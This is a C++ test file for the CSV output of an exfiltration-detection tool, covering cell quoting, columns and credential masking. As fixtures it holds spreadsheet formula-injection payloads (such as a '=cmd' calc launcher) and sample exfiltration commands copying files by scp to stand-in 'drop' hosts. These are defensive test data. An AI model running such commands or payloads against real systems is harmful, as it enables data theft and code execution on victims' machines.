#include "auexfil/report/csv.hpp"

#include <algorithm>
#include <string>
#include <string_view>

#include <catch2/catch.hpp>

#include "sample.hpp"

using namespace auexfil;
using report::append_csv;
using report::append_csv_cell;
using namespace std::string_view_literals;

namespace {

template <typename T>
std::string rows(const T& record) {
  std::string out;
  append_csv(out, record);
  return out;
}

}  // namespace

TEST_CASE("CSV: a cell is quoted by RFC 4180, never run and never a control") {
  struct Case {
    std::string_view text;
    std::string_view wanted;
  };
  constexpr Case kCases[] = {
      {"", ""},
      {"plain", "plain"},
      {"a,b", "\"a,b\""},
      {"a\"b", "\"a\"\"b\""},
      {"=1+1", "'=1+1"},
      {"+1", "'+1"},
      {"-1", "'-1"},
      {"@SUM(A1)", "'@SUM(A1)"},
      {"\t=1", R"('\x09=1)"},
      {"\r=1", R"('\x0d=1)"},
      {"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
      {"=HYPERLINK(\"http://x\",\"y\")", "\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\""},
      {"a=1", "a=1"},
      {"a\nb\x1b\0"sv, R"(a\x0ab\x1b\x00)"},
      {"\xff", R"(\xff)"},
  };
  for (const Case& c : kCases) {
    std::string out;
    append_csv_cell(out, c.text);
    CHECK(out == c.wanted);
  }
}

TEST_CASE("CSV: findings have DESIGN's columns") {
  std::string out;
  report::append_findings_csv_header(out);
  append_csv(out, sample::finding());
  CHECK(out ==
        "finding,rule,severity,host,role,start,end,address,port,bytes_out,basis,limit_bytes,"
        "window_s,tool,user,auid_user,automation,job,script,command,reasons,transfers,technique,"
        "update\r\n"
        "00000000000000ab,bulk-unattended,high,etl-01,default,2026-12-02T01:02:01.113Z,"
        "2026-12-02T01:02:04.870Z,203.0.113.11,22,3153717,measured,1048576,86400,scp,root,root,"
        "unattended,cron: /bin/sh -c scp -q f drop@203.0.113.11:up/,,"
        "scp -q f drop@203.0.113.11:up/,"
        "\"started by cron (pid 311); 203.0.113.11 is on no allowlist\",9f0c000000000001,"
        "\"T1071.002; T1048\",no\r\n");
}

TEST_CASE("CSV: one row a finding and destination; unknown is empty, never 0") {
  policy::Finding finding = sample::finding();
  finding.destinations = {{"203.0.113.11", 22, 100, transfer::Basis::measured},
                          {"drop.example.org", {}, {}, transfer::Basis::unknown}};
  finding.destinations.front().sender.tool = "lftp";
  finding.destinations.back().sender.tool = "curl";
  finding.limit_bytes = {};
  const std::string out = rows(finding);
  CHECK(std::count(out.begin(), out.end(), '\n') == 2);
  CHECK(out.find(",203.0.113.11,22,100,measured,,86400,lftp,") != std::string::npos);
  CHECK(out.find(",drop.example.org,,,unknown,,86400,curl,") != std::string::npos);
}

TEST_CASE("CSV: transfers, one row a destination") {
  std::string out;
  report::append_facts_csv_header(out);
  append_csv(out, sample::fact());
  append_csv(out, sample::unmeasured_fact());
  CHECK(out ==
        "id,host,start,end,tool,side,direction,automation,job,user,auid_user,address,port,name,"
        "bytes_out,bytes_in,basis,script,command,reasons,notes\r\n"
        "9f0c000000000001,etl-01,2026-12-02T01:02:01.113Z,2026-12-02T01:02:04.870Z,scp,client,out,"
        "unattended,cron: /bin/sh -c scp -q f drop@203.0.113.11:up/,root,root,203.0.113.11,22,,"
        "3153717,,measured,,scp -q f drop@203.0.113.11:up/,"
        "\"started by cron (pid 311); no terminal\",\r\n"
        "9f0c000000000001,,2026-12-02T01:02:01.113Z,2026-12-02T01:02:04.870Z,scp,client,unknown,"
        "unattended,,root,,,,drop.example.org,,,unknown,,scp -q f drop@203.0.113.11:up/,"
        "\"started by cron (pid 311); no terminal\",\r\n");
}

TEST_CASE("CSV: every row has as many columns as the header, whatever the log holds") {
  facts::Fact fact = sample::fact();
  fact.process.argv = {"a\r\nb", "c,\"d\"", "-p"};
  fact.host = "x\ny";
  fact.destinations.clear();
  const std::string out = rows(fact);
  CHECK(std::count(out.begin(), out.end(), '\n') == 1);
  std::size_t columns = 1;
  bool quoted = false;
  for (const char c : out) {
    quoted = quoted != (c == '"');
    columns += c == ',' && !quoted ? 1U : 0U;
  }
  CHECK(columns == 21);
  CHECK(!quoted);
}

TEST_CASE("CSV: coverage, one row a host, with what the run has read") {
  coverage::HostCoverage host = sample::coverage("etl-01", coverage::CoverageVerdict::partial);
  host.node = "etl,1";
  host.reasons = {"records were lost", "-p hunter2"};
  host.execs = host.bytes = true;
  host.gaps = {{sample::kStart, sample::kEnd, "records were lost"}, {0, sample::kEnd, "off"}};
  host.unattributed = coverage::UnseenBytes{838, {"cron", "=x"}};
  coverage::ReadSummary read;
  read.complete = false;
  read.bounds = {{"argv", 2}, {"processes", 10}};
  std::string out;
  report::append_coverage_csv_header(out);
  host.flows.emplace();
  host.flows->hours = {{1796173200000, 1796180400000}};
  append_csv(out, host, read);
  append_csv(out, coverage::HostCoverage(), {});
  CHECK(out ==
        "host,node,verdict,reasons,first,last,execs,connects,bytes,descriptors,gaps,"
        "unattributed_bytes,unattributed_programs,unaddressed_bytes,unaddressed_programs,complete,"
        "bounds,flow_hours\r\n"
        "etl-01,\"etl,1\",partial,\"records were lost; -p hunter2\",2026-12-02T01:02:01.113Z,"
        "2026-12-02T01:02:04.870Z,yes,no,yes,no,"
        "\"2026-12-02T01:02:01.113Z/2026-12-02T01:02:04.870Z records were lost; "
        "/2026-12-02T01:02:04.870Z off\",838,\"cron; =x\",,,no,\"argv 2; processes 10\","
        "2026-12-02T01:00:00.000Z/2026-12-02T03:00:00.000Z\r\n"
        ",,blind,,,,no,no,no,no,,,,,,yes,,\r\n");
}

TEST_CASE("CSV: credentials are masked") {
  policy::Finding finding = sample::finding();
  finding.destinations.front().sender.command = {"sshpass", "-p", "hunter2", "scp", "f", "h:"};
  CHECK(rows(finding).find("hunter2") == std::string::npos);
  CHECK(rows(finding).find("sshpass -p **** scp f h:") != std::string::npos);
}
